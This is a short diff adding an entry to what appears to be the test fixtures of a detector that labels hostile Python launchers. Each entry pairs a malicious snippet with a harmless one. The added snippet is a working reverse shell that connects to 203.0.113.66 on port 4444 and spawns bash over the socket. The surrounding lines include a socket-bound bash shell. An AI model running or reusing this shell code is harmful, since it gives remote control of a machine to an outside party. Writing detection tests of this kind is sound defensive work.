@@ -1037,6 +1037,13 @@ SHAPE_RULE_PAIRS = [
      "conn, _ = srv.accept()\nfd = conn.fileno()\nsubprocess.run(['bash'], stdin=fd, stdout=fd, stderr=fd)",
      "import socket, subprocess\ns = socket.create_connection(('127.0.0.1', 8080))\n"
      "out = subprocess.run(['bash', '-c', 'nvidia-smi'], capture_output=True)\ns.sendall(out.stdout)"),
+    ("a program of several lines handed to python -c in an argv list is read as Python (here a reverse shell); "
+     "the same launcher running a report is allowed", "remote_desktop_ssh.reverse-shell",
+     "import subprocess, sys\ncode = \"\"\"\nimport socket, os, pty\ns = socket.socket()\n"
+     "s.connect(('203.0.113.66', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
+     "pty.spawn('/bin/bash')\n\"\"\"\nsubprocess.Popen([sys.executable, '-c', code], start_new_session=True)",
+     "import subprocess, sys\ncode = \"\"\"\nimport json, os\nrows = os.listdir('/content/runs')\n"
+     "print(json.dumps(sorted(rows)))\n\"\"\"\nsubprocess.Popen([sys.executable, '-c', code])"),
     *HIDING_PAIRS,
 ]
 
